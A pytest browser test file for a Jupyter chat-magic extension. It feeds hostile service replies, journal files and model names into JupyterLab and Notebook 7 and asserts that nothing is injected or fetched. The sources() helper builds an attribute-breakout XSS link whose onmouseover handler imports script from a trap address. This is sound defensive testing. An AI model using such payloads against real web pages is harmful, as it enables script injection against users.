"""A hostile service, and a hostile journal in a cloned repository, in JupyterLab and Notebook 7: nothing runs, nothing
is fetched, while cells run and when the page is opened again."""

from __future__ import annotations

import json
import re
from collections.abc import Callable
from pathlib import Path

import pytest
from front_end import NO_KERNEL, FrontEnd, OpenNotebook
from trap import FETCHED, FOREIGN, Trap, attacks, requested

from zhipu_magic.practice import Answer, Fault, PracticeServer, tool_call

pytestmark = pytest.mark.browser

Open = Callable[..., OpenNotebook]
Shoot = Callable[..., Path]

#: What the outputs hold of what nobody but us may bring in; our own pieces have details, the panel a style, and the
#: dashboard a chart.
FOREIGN_HERE = (
    FOREIGN.replace("button, details, ", "button, ")
    .replace("script, style", "script, style:not(.zhipu-magic-panel > style:first-child)")
    .replace("svg, math", "svg:not([role=img]), math")
    .replace(".jp-RenderedMarkdown'", ".jp-RenderedMarkdown, .jp-RenderedHTML'")
)
COMMANDS = [
    "history",
    "history --full",
    "",
    "thread",
    "threads",
    "models",
    "system",
    "usage",
    "show 1",
    "undo",
    "redo",
    "help",
]


def sources(trap: Trap) -> list[dict[str, str]]:
    """What a web search found: an address that ends its own attribute, and titles of every kind."""
    run = f"import(`{trap.address}/js`)"
    link = (
        f'http://a.example/$"style="position:fixed;inset:0;background:url({trap.address}/css)"onmouseover="{run}"x="$'
    )
    found = [{"title": "press", "link": link}, {"title": link, "link": "http://a.example/"}]
    return found + [{"title": each, "link": f"http://a.example/{each}", "media": each} for each in attacks(trap)]


def journal(trap: Trap) -> str:
    """A journal whose every member is an attack."""
    lines: list[dict[str, object]] = [{"id": "aa-0", "event": "session", "version": 1, "system": attacks(trap)[0]}]
    for number, attack in enumerate(attacks(trap), 1):
        word = re.sub(r"\s", "/", attack)[:60]
        message = {"role": "assistant", "content": attack, "reasoning_content": attack}
        reply = {"id": attack, "model": attack, "choices": [{"finish_reason": "stop", "message": message}]}
        reply["web_search"] = [{"title": attack, "link": attack}]
        turn = {"id": f"aa-{number}", "event": "turn", "thread": "main", "prompt": attack, "key": "k", "model": word}
        lines.append({**turn, "completion": reply, "written": attack, "cell": word, "host": word})
        fork = {"id": f"ab-{number}", "event": "fork", "thread": "main", "name": word}
        lines += [fork, {"id": f"ac-{number}", "event": "switch", "thread": "main"}] if number % 20 == 1 else []
    return "".join(json.dumps(line, ensure_ascii=False) + "\n" for line in lines)


def check(notebook: OpenNotebook, trap: Trap) -> None:
    notebook.page.evaluate(FETCHED)
    assert notebook.page.evaluate(FOREIGN_HERE) == []
    assert notebook.page.evaluate("window.__pwned") is None
    hovered = 0
    for index in range(notebook.page.locator(".jp-Notebook .jp-CodeCell").count()):
        links = notebook.cell(index).locator(".jp-RenderedMarkdown a", has_text="press")
        for number in range(min(links.count(), 20 - hovered)):
            notebook.reach(index)
            links.nth(number).hover()
            hovered += 1
    assert notebook.dialogs == []
    assert trap.visits == set()


@pytest.mark.parametrize("server", [0.0], indirect=True)
def test_a_hostile_service_gets_nothing_in(
    front_end: FrontEnd, opened: Open, server: PracticeServer, trap: Trap, shoot: Shoot
) -> None:
    cells = ["%load_ext zhipu_magic", "def f(x):\n    return x", "%%glm --search\nWhat is new?"]
    cells += ["%%glm --tool f\nGo on.", "%%glm\nAnd now?", "%glm history", "%glm history --full", "%glm usage"]
    notebook = opened(front_end, front_end.write("hostile-service", *cells), height=3_000)
    notebook.wait_for_kernel()
    joined = "\n\n".join(attacks(trap))
    calls = tuple(tool_call("f", {"x": each}, id=str(number)) for number, each in enumerate(attacks(trap)[:20]))
    server.enqueue(
        Answer(joined, reasoning=joined, extra={"web_search": sources(trap)}),
        Answer(f"$$ {joined}", tool_calls=calls),
        Answer(f"{joined}\n\n$$"),
        Fault(400, attacks(trap)[0], joined),
    )
    notebook.finish(*range(len(cells)))
    check(notebook, trap)
    shoot(notebook.page, f"{front_end.name}-hostile-service")
    notebook.save()
    with requested(notebook.page.context) as hosts:
        again = opened(front_end, front_end.copy(notebook.path, "hostile-service-again", kernel=NO_KERNEL))
        again.go_without_kernel()
        for index in range(len(cells)):
            again.reach(index)
        again.page.locator(".jp-OutputArea-output").last.wait_for()
        check(again, trap)
    assert len(hosts) == 1


def test_a_hostile_journal_gets_nothing_in(front_end: FrontEnd, opened: Open, trap: Trap, shoot: Shoot) -> None:
    from playwright.sync_api import expect

    cells = ["%load_ext zhipu_magic", "%glm resume", *(f"%glm {line}" for line in COMMANDS), "%%glm --preview\nWhat?"]
    path = front_end.write("hostile-journal", *cells)
    file = path.parent / ".glm" / "hostile-journal.jsonl"
    file.parent.mkdir(exist_ok=True)
    file.write_text(journal(trap), encoding="utf-8")
    notebook = opened(front_end, path, height=3_000)
    notebook.wait_for_kernel()
    notebook.finish(*range(len(cells)))
    expect(notebook.outputs(1).first).to_contain_text("Resumed")
    check(notebook, trap)
    shoot(notebook.page, f"{front_end.name}-hostile-journal")


def test_a_service_whose_models_are_attacks_gets_nothing_in(
    lab: FrontEnd, opened: Open, server: PracticeServer, trap: Trap, monkeypatch: pytest.MonkeyPatch
) -> None:
    from playwright.sync_api import expect

    monkeypatch.setattr("zhipu_magic.practice.service.MODELS", tuple(attacks(trap)))
    notebook = opened(lab, lab.write("hostile-models", "%load_ext zhipu_magic", "%glm models"))
    notebook.wait_for_kernel()
    notebook.finish(0, 1)
    expect(notebook.outputs(1).first).to_contain_text("service's own")
    check(notebook, trap)
